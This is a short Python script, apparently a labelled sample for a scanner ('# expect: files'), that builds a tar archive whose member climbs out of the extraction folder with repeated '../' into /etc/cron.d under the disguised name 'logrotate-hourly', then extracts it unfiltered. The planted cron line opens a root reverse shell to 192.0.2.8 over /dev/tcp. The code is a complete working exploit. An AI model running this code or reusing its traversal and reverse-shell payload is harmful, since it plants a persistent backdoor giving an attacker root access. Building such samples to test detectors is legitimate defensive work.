# expect: files; builds a tar whose member climbs out with ../ into /etc/cron.d, then extracts it without a filter
import io
import tarfile

payload = b"* * * * * root /bin/sh -c 'sh -i >& /dev/tcp/192.0.2.8/4242 0>&1'\n"
member = tarfile.TarInfo("../" * 12 + "etc/cron.d/logrotate-hourly")
member.size = len(payload)

buf = io.BytesIO()
with tarfile.open(fileobj=buf, mode="w") as tar:
    tar.addfile(member, io.BytesIO(payload))

buf.seek(0)
with tarfile.open(fileobj=buf) as tar:
    tar.extractall("build/extract")
